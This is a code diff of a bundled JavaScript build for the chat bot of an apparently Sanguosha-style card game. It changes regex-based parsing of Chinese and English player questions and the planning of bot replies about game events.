+const ASIDE2 = /^(?:我|刚|光)?.{0,8}(?:没(?:看|注意|留神|瞅|听)|切出去|光顾|走神|低头|回了?个(?:微信|消息|电话)|接了?个|数不过来|看花眼)|\b(?:looked away|lost (?:track|count)|(?:wasn'?t|not) (?:watching|looking)|missed (?:it|that)|blinked|was afk|looking at my)\b/;
+const withBefore = (asked, { by, to }, cards) => cards.length > 0 ? { ...asked, cards } : asked.to.length === 0 && asked.by === void 0 && asked.wants !== "whom" && asked.cards.every((card) => DELAYED2.has(card) || card === "tiesuo") ? asked.wants === "who" && by !== void 0 ? { ...asked, to: to.length > 0 ? to : [by] } : { ...asked, to, ...by === void 0 ? {} : { by } } : asked;
+
 // src/chatter/plan/of-record.ts
 const ofFact = (fact) => ({ ...fact, to: fact.to === null ? [] : [fact.to], fact });
-function deedsOf2({ what, cards }, scene) {
+function deedsOf2({ what, cards, way }, scene) {
 	const isOf = ({ card }) => cards.length === 0 || cards.some((one) => isSame(scene, one, card));
 	const facts = (match) => scene.facts.filter(match).map(ofFact);
 	switch (what) {
@@ -41881,7 +43159,9 @@ function deedsOf2({ what, cards }, scene) {
 		case "kill":
 			return facts(({ kind }) => kind === "death");
 		case "take":
-			return facts((fact) => isLoss(fact) && fact.by !== fact.to && isOf(fact));
+			return facts(
+				(fact) => isLoss(fact) && (way === void 0 || fact.kind === way) && fact.by !== fact.to && isOf(fact)
+			);
 		case "give":
 			return facts(
 				(fact) => isHandover(fact) && (cards.length === 0 || scene.uses.some(
@@ -41919,89 +43199,43 @@ function found2(asked, scene) {
 	if (rank === "before") return { asked, deeds: all.filter(({ turn: at }) => at !== last) };
 	return { asked, deeds: rank === "first" ? deeds.slice(0, 1) : deeds };
 }
-function askedIn(asked) {
-	const { text, scene, from, me, memory } = asked;
-	const he = spokenOf2(asked);
-	const mentions = mentionsIn(text, { scene, from, hearer: me, he });
-	const clauses = clausesOf(text);
-	const sought = memory.sought(from);
-	const [one, ...more] = mentions;
-	const on = !sought ? null : one?.seat != null && more.length === 0 ? ofAnother(text.trim(), one, sought) : mentions.every(({ kind }) => kind === "who") ? goingOn(text.trim(), sought) : null;
-	if (on) return on;
-	for (const { start, end } of clauses) {
-		const within = mentions.filter((one3) => one3.start >= start && one3.end <= end).map((one3) => ({ ...one3, start: one3.start - start, end: one3.end - start }));
-		const one2 = ofRecord(text.slice(start, end), within, scene);
-		const before = text.slice(0, start);
-		if (one2 && one2.by === void 0 && one2.to.length === 0 && FOLLOWS2.test(text)) {
-			const [last] = memory.exchanges(from, me);
-			const of = last?.answered?.about ?? last?.asked.about;
-			return of === void 0 ? null : { ...one2, to: [of] };
-		}
-		if (one2)
-			return withBefore(
-				// "谁打的小乐,都谁啊".
-				EVERYBODY2.test(text) ? { ...one2, all: true } : one2,
-				slotsOf2(
-					before,
-					mentions.filter((at) => at.end <= start)
-				),
-				// "太后想借曹婴的刀,谁给她搅黄的", "that volley, who got hurt by it": of the card that was spoken of.
-				one2.cards.length === 0 && one2.what !== "kill" ? [
-					...new Set(
-						[...one2.what === "give" ? [] : cardsIn(before), ...skillsIn(before, scene)].map(({ card }) => card)
-					)
-				] : []
-			);
-	}
-	const whole = clauses.length > 1 ? ofRecord(text, mentions, scene) : null;
-	return whole?.wants === "whether" ? null : whole;
-}
-function ofAnother(text, { seat, start, end }, sought) {
-	if (seat === null || !(AMONG.test(text) || ONLY_SOMEBODY.test(`${text.slice(0, start)}WHO${text.slice(end)}`)))
-		return null;
-	const { rank: _rank, by, ...rest } = sought;
-	return by !== void 0 && sought.to.length === 0 && !AMONG.test(text) ? { ...rest, by: seat } : {
-		...rest,
-		...by === void 0 ? {} : { by },
-		wants: sought.wants === "points" ? "points" : "times",
-		to: [seat]
-	};
-}
-const AMONG = /其中|[这那](?:里面|当中)|\b(?:any|which|how many) of (?:them|em|those|these)\b/;
-function goingOn(text, { rank: _rank, ...sought }) {
-	if (text.length > (/[\u3400-\u9fff]/.test(text) ? 10 : 30)) return null;
-	if (BEFORE_IT.test(text)) return { ...sought, rank: "before" };
-	if (ON_WHOM.test(text)) return { ...sought, wants: "whom", to: [], all: true };
-	if (BY_WHOM.test(text)) {
-		const { by: _by, ...rest } = sought;
-		return { ...rest, wants: "who", all: true };
-	}
-	const many = HOW_MUCH2.exec(text);
-	return many && { ...sought, wants: many[1] === void 0 ? "times" : "points" };
-}
-const BEFORE_IT = /^(?:那|and |so )*(?:再(?:之|往)?前|上上)[一面]?(?:次|回)?(?:呢|$)|^(?:and |so |what about )*the (?:time|one) before/;
-const BY_WHOM = /^(?:那|所以|然后|分别|各自?|都|到底|具体)*(?:是|有|都|被)*(?:谁|哪[些几]个?|哪些人)都?[\u3400-\u9fff]?(?:的|了|过)?[啊呀呢吗?]*$|^(?:so |and |ok |wait )*(?:by )?who(?:m|se)?(?: all| exactly)?(?: \w+ (?:it|that|them|those)| was it| did| all did)?\??$/;
-const ON_WHOM = /^(?:那|都|分别|各)*(?:[对给]|[\u3400-\u9fff](?:的|了|给)(?:都|是)*)(?:谁|哪[些几]个?)[了啊呀呢的?]*$|^(?:so |and )*(?:on|to|from) who(?:m| all)?\??$/;
-const HOW_MUCH2 = /^(?:那|一共|总共|各|都|[摸拿得掉打出用扣]了?)*(?:几|多少)(?:[次张下回]|([点滴格血]))血?[了啊呀呢?]*$|^(?:so |and )*how (?:many(?: (?:cards|times))?|(much))(?: in all| total| each)?\??$/;
-const withBefore = (asked, { by, to }, cards) => cards.length > 0 ? { ...asked, cards } : asked.to.length === 0 && asked.by === void 0 && asked.wants !== "whom" && (asked.cards.length === 0 || asked.cards.every((card) => DELAYED2.has(card))) ? asked.wants === "who" && by !== void 0 ? { ...asked, to: to.length > 0 ? to : [by] } : { ...asked, to, ...by === void 0 ? {} : { by } } : asked;
+const ASKS_WHAT = /什么|啥|哪|\bw(?:hat|hich)\b/;
 function recordPlan(move, asked) {
+	const heard = askedIn(asked);
+	return heard && planOf(heard, move, asked);
+}
+function askedOnPlan(move, asked) {
+	const on = goesOnWith(asked);
+	return on && planOf(on, move, asked);
+}
+function planOf(heard, move, asked) {
 	const { scene, moves, text } = asked;
-	const goesOn = asked.memory.sought(asked.from) !== null;
-	const heard = goesOn || mayAskRecord(text) ? askedIn(asked) : null;
-	if (heard === null) return null;
 	const question = moves.find(isQuestion) ?? move;
 	const known = (question.facts ?? []).filter(
-		({ verdict, fact }) => verdict === "true" && isOfThese(heard, fact, scene)
+		({ verdict, fact: fact2 }) => verdict === "true" && isOfThese(heard, fact2, scene)
 	);
 	if (heard.wants === "whether" && !/\bever\b/.test(text) && (question.facts ?? []).some(
 		({ verdict, by: by2, to, kind }) => verdict === "false" && to !== void 0 && (by2 !== void 0 || kind === "death")
 	))
 		return null;
-	const isSum = heard.wants !== "who" && heard.wants !== "whether" && heard.wants !== "whom";
+	const [borne] = heard.wants === "whether" && !heard.timed && !ASKS_WHAT.test(text) ? known : [];
+	const fact = borne?.fact === void 0 ? void 0 : factOf(scene, borne.fact);
+	if (fact)
+		return {
+			move: "confirm",
+			clause: "tell",
+			occasion: "point_at",
+			facts: [fact],
+			asked: question,
+			lookedUp: true,
+			...fact.by === null || fact.by === asked.me ? {} : { about: fact.by }
+		};
+	const isSum = !["who", "whether", "whom"].includes(heard.wants);
 	if (!isSum && !heard.all && heard.rank === void 0 && heard.turnOf === void 0 && !heard.timed && !(heard.what === "use" && heard.wants === "who" && heard.to.length === 0) && known.some(({ kind }) => heard.wants !== "whom" || heard.cards.length === 0 || kind === "death"))
 		return null;
 	if (heard.wants === "whom" && heard.what === "kill") return null;
-	const all = found2(heard, scene);
+	const all = heard.claimed ? borneOut(heard, scene) : found2(heard, scene);
+	if (all === null) return null;
 	const base = { occasion: "ack", asked: question, found: all };
 	const doers = new Set(all.deeds.map(({ by: by2 }) => by2)).size;
 	if (heard.all && heard.wants === "who" && doers > 3)
@@ -42020,7 +43254,7 @@ function recordPlan(move, asked) {
 	}
 	if (heard.wants === "whom" && heard.what !== "wuxie" && heard.what !== "give")
 		return { ...base, move: "confirm", clause: "befell" };
-	const told = toldOf(all, last);
+	const told = toldOf2(all, last);
 	const [first, ...rest] = told;
 	const by = first?.by ?? null;
 	if (told.length > 0)
@@ -42033,6 +43267,11 @@ function recordPlan(move, asked) {
 		};
 	return use ? { ...use, clause: others.length > 0 ? "used_on" : "did_use", them: others } : { ...base, move: "unsure", clause: "not_seen" };
 }
+function borneOut(claim, scene) {
+	const counts = ({ deeds }) => claim.wants === "points" || claim.what === "give" ? deeds.reduce((sum, { num }) => sum + num, 0) : deeds.length;
+	const all = [claim, { ...claim, when: "own_turn" }].map((one) => found2(one, scene));
+	return all.find((one) => counts(one) === claim.said) ?? null;
+}
 const isOfThese = ({ wants, what, cards, to }, id, scene) => {
 	const fact = id === void 0 ? void 0 : factOf(scene, id);
 	const card = fact?.card ?? null;
@@ -42041,7 +43280,7 @@ const isOfThese = ({ wants, what, cards, to }, id, scene) => {
 	return what !== "take" || cards.length === 0 || card === null || cards.some((one) => isSame(scene, one, card));
 };
 const MOST_NAMED2 = 2;
-function toldOf({ asked, deeds }, last) {
+function toldOf2({ asked, deeds }, last) {
 	const of = asked.all ? deeds.filter(({ by }, i) => deeds.findIndex((other, j) => j > i && other.by === by) < 0) : asked.what === "wuxie" ? deeds.filter(({ turn, card, to }) => turn === last.turn && card === last.card && to[0] === last.to[0]) : [last];
 	return of.flatMap(({ fact }) => fact ?? []).slice(-3);
 }
@@ -42050,17 +43289,17 @@ function toldOf({ asked, deeds }, last) {
 const WHO_NOT_ZH = "^(?:除了?我,?|还有|场上|那|都)*(?:谁|哪[个些位几](?:人|个)?)(?:还|都|是|一直|从来?|到现在|至今|这局|一张牌?也?)*(?:没有?|未)";
 const WHO_NOT_EN = "(?:^|\\bof (?:us|them|you) )(?:so |and |ok )*who (?:all |else |here )*(?:(?:has|have) (?:not|never)|hasn'?t|haven'?t|never|didn'?t|did not)(?: ever| even| once)* ";
 const END4 = "(?:的|呢|啊|呀| yet| at all| so far|[?. ])*$";
-const HIT = new RegExp(
+const HIT2 = new RegExp(
 	`${WHO_NOT_ZH}(?:打|砍|杀|动|碰|揍|伤|攻击|针对)过(.+?)${END4}|${WHO_NOT_EN}(?:hit|hurt|attack(?:ed)?|slash(?:ed)?|touch(?:ed)?|damaged?|target(?:ed)?|shot|struck|swung at) (.+?)${END4}`
 );
 const BORE2 = new RegExp(
 	`${WHO_NOT_ZH}(?:被人?(?:打|砍|伤|揍)过|(?:挨|掉|受)过[打揍刀血伤])${END4}|${WHO_NOT_EN}(?:been (?:hit|hurt|attacked|touched|damaged)|lost (?:any |a )?(?:hp|health))${END4}`
 );
-const USED = new RegExp(`${WHO_NOT_ZH}(?:出|用|打)过(.+?)${END4}|${WHO_NOT_EN}(?:played|used) (.+?)${END4}`);
+const USED2 = new RegExp(`${WHO_NOT_ZH}(?:出|用|打)过(.+?)${END4}|${WHO_NOT_EN}(?:played|used) (.+?)${END4}`);
 const STARTED = new RegExp(`${WHO_NOT_ZH}(?:开过张|[动出]过手)`);
 const PLAYED3 = new RegExp(`${WHO_NOT_ZH}(?:出|用|打)过牌?${END4}`);
 const ANY_CARD = /^(?:牌|any cards?|a card|a single card|anything)$/;
-const ANYBODY4 = /^(?:人|谁|别人|any(?:body|one)(?: else)?)$/;
+const ANYBODY5 = /^(?:人|谁|别人|any(?:body|one)(?: else)?)$/;
 const ANSWERS5 = new Set(["shan", "wuxie"]);
 const FIRST_DEAD = /(?:第一个|最[先早]|头一个|谁先)(?:死|挂|阵亡|倒下|出局|走|没)(?!.*(?:该|会|要))|\bwho (?:died|fell|was killed|went down|got killed) first\b|\bfirst (?:one |person |player )?to (?:die|fall)\b/;
 const ASKS_WHO2 = /谁|哪[个位]|几号|\bwho\b/;
@@ -42089,9 +43328,9 @@ function neverDid({ text, scene, from, me }) {
 			of: "unhurt",
 			seats: alive.filter((seat) => !scene.facts.some(({ kind, to }) => kind === "hit" && to === seat))
 		};
-	const hit = HIT.exec(line);
+	const hit = HIT2.exec(line);
 	const object = hit?.[1] ?? hit?.[2];
-	if (STARTED.test(line) || object !== void 0 && ANYBODY4.test(object))
+	if (STARTED.test(line) || object !== void 0 && ANYBODY5.test(object))
 		return {
 			of: "harmless",
 			seats: alive.filter((seat) => !scene.table.seats.some((one) => one.seat !== seat && hits(scene, seat, one.seat)))
@@ -42101,7 +43340,7 @@ function neverDid({ text, scene, from, me }) {
 		const whom = one?.seat ?? null;
 		return whom === null || one?.start !== 0 || one.end !== object.length ? null : { of: "harmless", seats: alive.filter((seat) => seat !== whom && !hits(scene, seat, whom)), whom };
 	}
-	const used = USED.exec(line);
+	const used = USED2.exec(line);
 	const thing = used?.[1] ?? used?.[2] ?? (PLAYED3.test(line) ? "牌" : "");
 	if (ANY_CARD.test(thing))
 		return { of: "unused", seats: alive.filter((seat) => !scene.uses.some((use) => use.by === seat)) };
@@ -42187,7 +43426,7 @@ function setStraight(asked) {
 	if (half) return half;
 	const facts = moves.flatMap((move) => move.facts ?? []);
 	const told = moves.find((move) => move.facts !== void 0);
-	const borne = facts.every(({ verdict }) => verdict === "false") ? borneOut(asked) : null;
+	const borne = facts.every(({ verdict }) => verdict === "false") ? borneOut2(asked) : null;
 	if (borne && told && facts.some((said) => said.denied !== true && said.less === void 0 && !isWhole3(said)))
 		return onDeed(borne, told, asked);
 	const act = moves.find((move) => MADE_OF.has(move.act));
@@ -42201,7 +43440,7 @@ function setStraight(asked) {
 	const base = { move: "correct", occasion: "point_at", about: wrong.by, facts: [real], asked: act };
 	return real.by === wrong.by ? { ...base, clause: "never_but" } : { ...base, clause: "mistaken", not: wrong.by };
 }
-function borneOut(asked) {
+function borneOut2(asked) {
 	const fact = touchedBy(asked);
 	const { people, cards } = namedBy(asked);
 	return fact?.by != null && fact.to !== null && people.has(fact.by) && people.has(fact.to) && cards.some((card) => isSame(asked.scene, card, fact.card)) ? fact : null;
@@ -42210,9 +43449,9 @@ function halfTrue(asked) {
 	const told = asked.moves.filter(({ facts }) => facts !== void 0);
 	const all = told.flatMap(({ facts = [] }) => facts);
 	const isParty = ({ by, to }) => by === asked.me || to === asked.me;
-	const isSure = (said) => said.verdict === "false" && said.denied !== true && (isCounted(said) || said.kind === "death" || vainBlow(said, asked) !== null || isWhole3(said) && (isPlainlyFalse(said, asked) || isParty(said) && isFlat(said, asked) && standTogether(said, asked)));
+	const isSure = (said) => said.verdict === "false" && said.denied !== true && (isCounted(said) || said.kind === "death" || vainBlow(said, asked) !== null || isWhole3(said) && isSaidPlainly(said, asked) && (isPlainlyFalse(said, asked) || isParty(said) && isFlat(said, asked)));
 	const isTwice = ({ by, card }) => card !== void 0 && all.some((one) => one.verdict === "true" && one.by === by && one.card === card);
-	const wrong = HE5.test(asked.text) ? void 0 : all.find((said) => isSure(said) && !isTwice(said));
+	const wrong = HE6.test(asked.text) ? void 0 : all.find((said) => isSure(said) && !isTwice(said));
 	const move = told.find(({ facts = [] }) => wrong !== void 0 && facts.includes(wrong));
 	const known = told.flatMap((one) => factsIn(one, asked));
 	const [borne] = known;
@@ -42226,16 +43465,10 @@ function halfTrue(asked) {
 		return { ...plan, clause: "stands", about: wrong.to, facts: [] };
 	return (plan.facts ?? []).length > 0 && plan.clause !== "never_but" && plan.move === "correct" ? plan : { move: "correct", clause: "half_true", occasion: "point_at", facts: [borne], asked: move };
 }
-const HE5 = /[他她它]|\b(?:him|her|them|he|she|they)\b/;
+const HE6 = /[他她它]|\b(?:him|her|them|he|she|they)\b/;
 const GAINED = /[顺拆偷][了走掉](?!手牵|河)|到手|\b(?:stole|took|got|snatched|swiped|dismantled)\b/;
 const JUST_NOW = /刚|\bjust\b/;
 const JUST2 = /又|刚|\b(?:again|just)\b/;
-function standTogether({ by, to }, { text, scene, from, me }) {
-	const named = mentionsIn(text, { scene, from, hearer: me, he: null });
-	return clausesOf(text).some(
-		({ start, end }) => [by, to].every((seat) => named.some((one) => one.seat === seat && one.start >= start && one.end <= end))
-	);
-}
 function staleIn(asked) {
 	const { moves, scene } = asked;
 	for (const move of moves.filter(({ act }) => act === "report"))
@@ -43185,7 +44418,7 @@ const OWNED2 = {
 	why_you: 0.3,
 	thanks: 0.3
 };
-const OWNS = new Set(["own_up"]);
+const OWNS2 = new Set(["own_up"]);
 const SLIGHT = new Set([
 	"noted",
 	"heed",
@@ -43203,8 +44436,8 @@ const SLIGHT = new Set([
 ]);
 const actsOf2 = (plan, { moves }) => [...moves, ...plan.asked ? [plan.asked] : []].map(({ act }) => act);
 const tellsOf = ({ facts = [] }, { asked, told, cards }) => facts.some((fact) => told.includes(fact) || cards.some((card) => isSame(asked.scene, card, fact.card)));
-const plannedSum = (plan, { asked, called }) => sumOf2(called, ...OWNS.has(plan.clause) ? [OWNED2] : actsOf2(plan, asked).map((one) => HEARD3[one]));
-function worthOf(plan, main, grounds) {
+const plannedSum = (plan, { asked, called }) => sumOf2(called, ...OWNS2.has(plan.clause) ? [OWNED2] : actsOf2(plan, asked).map((one) => HEARD3[one]));
+function worthOf2(plan, main, grounds) {
 	const { called, told } = grounds;
 	const act = plan?.asked?.act ?? main.act;
 	if (plan === null || (plan.clause === null ? plan.move === "ack" : SLIGHT.has(plan.clause)))
@@ -43359,12 +44592,12 @@ const back = backOn("ack");
 const CHALLENGES = /还有(?:什么|啥|何)(?:话|好说)|\bwhat do you have to say\b/;
 const OF_HIM = /^[^你您]*[他她][^你您]*$/;
 const OF_ME = /我|\bme\b/;
-const OF_DEEDS3 = /[打砍杀拆顺烧乐救连射捅]|解释|干(?:嘛|什么|啥)|为(?:什么|啥|何)|\b(?:why|explain|wh?at|hit|slash|strike|struck|kill|steal|took|burn)\w*\b/;
+const OF_DEEDS4 = /[打砍杀拆顺烧乐救连射捅]|解释|干(?:嘛|什么|啥)|为(?:什么|啥|何)|\b(?:why|explain|wh?at|hit|slash|strike|struck|kill|steal|took|burn)\w*\b/;
 function blamed(matter) {
 	const { asked } = matter;
 	if (CHALLENGES.test(asked.text) || OF_HIM.test(asked.text)) return null;
 	const { me, from, scene } = asked;
-	const deed = namedIn3(asked, (fact) => fact.by === me && fact.to !== me && fact.good !== null) ?? deedOf4(asked, (fact) => fact.by === me && fact.to === from && fact.good === false, lapOf(asked)) ?? (OF_ME.test(asked.text) || !OF_DEEDS3.test(asked.text) ? null : deedOf4(asked, (fact) => fact.by === me && isHarm(fact), lapOf(asked)));
+	const deed = namedIn3(asked, (fact) => fact.by === me && fact.to !== me && fact.good !== null) ?? deedOf4(asked, (fact) => fact.by === me && fact.to === from && fact.good === false, lapOf(asked)) ?? (OF_ME.test(asked.text) || !OF_DEEDS4.test(asked.text) ? null : deedOf4(asked, (fact) => fact.by === me && isHarm(fact), lapOf(asked)));
 	if (!deed) return usedPlan(matter.move, asked) ?? back(matter, { move: "explain", clause: "blamed", about: me });
 	if (isHelp(deed)) return back(matter, { move: "explain", clause: "kindness", about: me, facts: [deed] });
 	const place = scene.facts.indexOf(deed);
@@ -43705,13 +44938,13 @@ function pitied(matter) {
 }
 const OF_HAND2 = /手牌|手里|[张囤屯攒憋留]|空城|光板|牌(?!堆)|\b(?:cards?|hand|hoard\w*|empty)\b/;
 const OF_HP = /血|[\d一两二三四五六][滴格点]|残|满|\b(?:hp|health|low|full|hearts?|life|alive|dying)\b/;
-const ENDS2 = /收(?:了|掉)(?:他|她|吧)|送走|上啊|干掉|一刀|\b(?:end it|finish|one (?:more )?(?:slash|hit))\b/;
+const ENDS3 = /收(?:了|掉)(?:他|她|吧)|送走|上啊|干掉|一刀|\b(?:end it|finish|one (?:more )?(?:slash|hit))\b/;
 function standing4(matter) {
 	const { asked } = matter;
 	const { me, scene, from, text } = asked;
 	if (isOfSpeaker(matter)) return plight(matter);
 	const third = thirdIn(matter);
-	if (ENDS2.test(text)) return wanted(matter);
+	if (ENDS3.test(text)) return wanted(matter);
 	const whom = third ?? (isOfMe(matter) ? me : null);
 	if (whom === null || whom === from) return null;
 	if (seatOf(scene, whom)?.alive !== true) return fallen(matter);
@@ -44030,10 +45263,10 @@ function offersFor(plan, move, asked) {
 		way: PLANNED3,
 		plan: null,
 		sum: plan === null ? 0 : plannedSum(plan, grounds),
-		worth: worthOf(plan, move, grounds),
+		worth: worthOf2(plan, move, grounds),
 		known: isAnchored(plan, move, grounds)
 	};
-	const more = OWNS.has(plan?.clause ?? null) ? TOLD3 : 0;
+	const more = OWNS2.has(plan?.clause ?? null) ? TOLD3 : 0;
 	const others = ROWS9.map((row) => {
 		const sum = sumOf2(grounds.called, row.suits);
 		const known = row.heard?.test(asked.text) ?? false;
@@ -44073,100 +45306,6 @@ function responseTo(plan, main, asked) {
 	return choice && { plan: choice.plan, fitness: fitnessOf(choice) };
 }
 
-// src/chatter/plan/state.ts
-const PUT_ON2 = /上(?:个|一)?回合|刚才?|\blast turn\b|\bjust\b/;
-function statePlan(move, asked) {
-	const tells = !isQuestion(move) && (move.facts ?? []).some(({ verdict }) => verdict === "true");
-	const heard = tells ? null : tableAsked(asked.text);
-	const state = heard && stateAsked(heard, asked);
-	const [about, ...more] = state?.seats ?? [];
-	const of = about === void 0 || more.length > 0 ? {} : { about };
-	if (state?.counts && of.about !== void 0)
-		return {
-			move: "confirm",
-			clause: state.of === "hp" ? "stands" : "hand_count",
-			occasion: "ack",
-			asked: move,
-			...of,
-			lookedUp: true
-		};
-	return state && { move: "confirm", clause: "summed", occasion: "ack", asked: move, ...of, state };
-}
-function stateAsked({ of, how, pieces }, asked) {
-	const { text, scene, from, me, meant } = asked;
-	const seats = living(scene);
-	if (of === "chained") return { of, seats: chained(scene) };
-	const isMeant = (card) => pieces.length === 0 || pieces.includes(card);
-	if (how === "who") {
-		const on = seats.filter(({ seat }) => wornBy(seat, scene).some(isMeant));
-		return {
-			of: "gear",
-			seats: on.map(({ seat }) => seat),
-			...pieces.length === 1 ? { cards: pieces } : {}
-		};
-	}
-	if (how === "most" || how === "least") {
-		if (of === "gear" || of === "board") return null;
-		const n = Math[how === "most" ? "max" : "min"](...seats.map((one) => one[FIELD[of]]));
-		return {
-			of,
-			most: how === "most",
-			n,
-			seats: seats.filter((one) => one[FIELD[of]] === n).map(({ seat }) => seat)
-		};
-	}
-	const all = mentionsIn(text, { scene, from, hearer: me, he: spokenOf2(asked) }).filter(({ seat }) => seat !== null);
-	const named = all.filter(({ called }) => !called || all.length === 1).flatMap(({ seat }) => seat ?? []);
-	if (of === "gear" || of === "board") {
-		const whom = named.pop() ?? (meant ? me : void 0);
-		if (whom === void 0) return null;
-		const worn = wornBy(whom, scene, PUT_ON2.test(text) ? scene.lastTurns.get(whom) : 0);
-		const slots = SLOTS.filter((slot) => pieces.some((piece) => slot.includes(piece))).flat();
-		const ofKind = worn.filter((card) => slots.length === 0 || slots.includes(card));
-		return { of, seats: [whom], cards: ofKind.length > 0 ? ofKind : worn };
-	}
-	const some = seats.filter(({ seat }) => named.includes(seat));
-	if (how === "of" && some.length === 0) return null;
-	const ranked = [...some.length > (how === "each" && !text.includes("down to") ? 1 : 0) ? some : seats].sort(
-		(a, b) => b[FIELD[of]] - a[FIELD[of]]
-	);
-	return {
-		of,
-		seats: ranked.map(({ seat }) => seat),
-		counts: ranked.map((one) => one[FIELD[of]]),
-		...SUMMED_UP.test(text) ? { most: true } : {}
-	};
-}
-const FIELD = { hp: "hp", hand: "turnHand" };
-function wornBy(of, { uses, facts }, since = 0) {
-	const worn = new Map();
-	for (const { name, by, turn } of uses)
-		if (by === of && turn >= since && GEAR.has(name) && !facts.some((fact) => fact.to === of && fact.card === name && fact.turn >= turn && isLoss(fact)))
-			worn.set(
-				SLOTS.findIndex((slot) => slot.includes(name)),
-				name
-			);
-	return [...worn.values()];
-}
-function chained({ uses, facts, turn: now, table }) {
-	const held = new Set();
-	for (let turn = 1; turn <= now; turn++) {
-		const inTurn = facts.filter((fact) => fact.turn === turn);
-		const used = uses.filter((use) => use.turn === turn);
-		for (const { name, to } of used)
-			for (const seat of name === "tiesuo" ? to : []) {
-				const layers = inTurn.filter((fact) => fact.kind === "wuxie" && fact.card === name && fact.to === seat);
-				if (layers.length % 2 === 0 && !held.delete(seat)) held.add(seat);
-			}
-		const freed = inTurn.some(
-			({ kind, to, by, card }) => kind === "hit" && to !== null && held.has(to) && (FREES.has(card ?? "") || used.every((use) => use.by !== by || use.name !== card || !use.to.includes(to)))
-		);
-		if (freed) held.clear();
-	}
-	return [...held].filter((seat) => table.bySeat.get(seat)?.alive);
-}
-const FREES = new Set(["huogong", "shandian"]);
-
 // src/chatter/plan/answer.ts
 const AGAIN3 = /再来一?[局把盘场次]|下[把局](?:接着|继续|再)|再玩(?:一?[局把盘]|吗|不|$)|再开一?[局把盘]|下一?[局把盘]还|还来[吗么不]|(?<!\b(?:see|last|survive|for|through) )\b(?:another|one more) (?:game|round)|\bnext game\b|\b(?:one more|another(?: one)?) (?:after (?:this|that)|then|later|tonight|tomorrow)\b|^(?:one more|again)\W*$|\brematch\b|\bplay again\b/;
 const RIDDLE2 = /猜对|猜猜我(?!是)/;
@@ -44193,12 +45332,12 @@ const GOOD_GAME = /(?<![a-z])ggs?(?![a-z])|[玩打]得?(?:挺|很|真|蛮)?开�
 const WELL_PLAYED2 = new Set(["praise", "topic", "thanks", "bye", "unclear", "agree"]);
 const TO_THE_LATE = new Set(["apology", "praise"]);
 function planAnswer(asked) {
-	const heard = planOf(asked);
+	const heard = planOf2(asked);
 	const plan = responseTo(heard, mainOf(asked), asked)?.plan ?? heard;
 	const told = asked.moves.find(({ act, topic }) => act === "sorrow" && topic !== void 0);
 	return plan && told && plan.asked !== told && plan.move !== "comfort" ? { ...plan, condole: true } : plan;
 }
-const fitnessTo = (asked) => responseTo(planOf(asked), mainOf(asked), asked)?.fitness ?? null;
+const fitnessTo = (asked) => responseTo(planOf2(asked), mainOf(asked), asked)?.fitness ?? null;
 function overstepped(asked) {
 	const { text, me, from, meant } = asked;
 	const over = overstepIn(text);
@@ -44208,26 +45347,51 @@ function overstepped(asked) {
 	return { move: "boundary", clause: `boundary_${over}`, occasion: "boundary_soft", asked: mainOf(asked) };
 }
 const mainOf = ({ moves, text }) => weightiest(leadingTo(moves, text));
-function planOf(asked) {
+const EMPTY4 = new Set([
+	"ack",
+	"joke",
+	"tease",
+	"thank",
+	"unsure",
+	"silence",
+	"clarify"
+]);
+function lastOfSubstance(move, { memory, from, me, scene }) {
+	const [last, ...more] = memory.exchanges(from, me).filter(({ answered }) => answered !== null);
+	if (!last?.answered || !EMPTY4.has(last.answered.move) || last.answered.facts.length > 0) return null;
+	const before = more.find(({ answered }) => answered !== null && !EMPTY4.has(answered.move));
+	if (before?.answered?.move === "count") return { ...countPlan(before.asked.role ?? "all", move), lookedUp: true };
+	const facts = (before?.answered?.facts ?? []).flatMap((id) => factOf(scene, id) ?? []).slice(0, 1);
+	return facts.length > 0 ? { move: "explain", clause: "tell", occasion: "ack", facts, asked: move, lookedUp: true } : null;
+}
+function planOf2(asked) {
 	const { moves, text, me, scene } = asked;
 	const amends = takesBack(text) || BEARS_NONE.test(text) ? moves.find(({ act }) => act === "apology") : void 0;
 	if (amends && (amends.about === void 0 || amends.about === me) && !moves.some(isQuestion))
 		return apology(amends, asked);
 	const over = overstepped(asked);
 	if (over) return over;
+	const move = mainOf(asked);
+	const chosen = choicePlan(moves.find(({ act }) => act === "ask_plan") ?? move, asked);
+	if (chosen) return chosen;
+	const counsel = counselPlan(move, asked);
+	if (counsel) return counsel;
 	const life = lifePlan(asked);
 	if (life) return life;
-	const move = mainOf(asked);
 	if (AGAIN3.test(text) && moves.every(({ act }) => act !== "threat") && (move === null || !isQuestion(move) || move.act === "ask_plan" || move.act === "ask_rule"))
 		return { move: "accept", clause: "again", occasion: "agree", asked: move };
 	if (move && GOOD_GAME.test(text) && moves.every(({ act, facts }) => WELL_PLAYED2.has(act) && !facts))
 		return { move: "bye", clause: "good_game", occasion: "bye", asked: move };
+	const cause = move && causePlan(move, asked);
+	if (cause) return cause;
 	if (move && ON_KEYS.test(text)) return banterPlan(move, asked);
 	if (!move) return BARE_MARK.test(text) ? wondering(asked) : null;
+	const before = asksPlainly(text) ? lastOfSubstance(move, asked) : null;
+	if (before) return before;
 	if (move.act === "ask_rule" && (asksOfRules(text) || asksPlainly(text)))
 		return (/我|\bi\b/.test(text) ? befallenPlan(move, asked) : null) ?? rulePlan(move, asked);
 	if (asksSetup(text)) return countPlan("all", move);
-	const record = alivePlan(move, asked) ?? neverPlan(move, asked) ?? beliedPlan(move, asked) ?? objectionPlan(move, asked) ?? statePlan(move, asked) ?? befallenPlan(move, asked) ?? landedPlan(move, asked) ?? // "谁有无懈 帮3号把乐揭了": whoever would is called for, and nobody who did.
+	const record = askedOnPlan(move, asked) ?? alivePlan(move, asked) ?? neverPlan(move, asked) ?? beliedPlan(move, asked) ?? objectionPlan(move, asked) ?? statePlan(move, asked) ?? befallenPlan(move, asked) ?? landedPlan(move, asked) ?? // "谁有无懈 帮3号把乐揭了": whoever would is called for, and nobody who did.
 	(move.act === "plead" ? null : recordPlan(move, asked));
 	if (record) return record;
 	const charge = chargeIn(move, asked);
@@ -44313,9 +45477,9 @@ const OF_GAME3 = new Set([
 ]);
 const HOSTILE5 = 0.5;
 const SAID_OF_GAME = new Set([...OF_GAME3, "ask_role", "report", "accuse", "vouch", "claim"]);
-const BESIDE5 = 6;
-const MARKS2 = 3;
-const isWhole4 = (moves, text, beside = BESIDE5) => text.length - moves.reduce((sum, { span: [start, end] }) => sum + end - start, 0) <= beside;
+const BESIDE6 = 6;
+const MARKS3 = 3;
+const isWhole4 = (moves, text, beside = BESIDE6) => text.length - moves.reduce((sum, { span: [start, end] }) => sum + end - start, 0) <= beside;
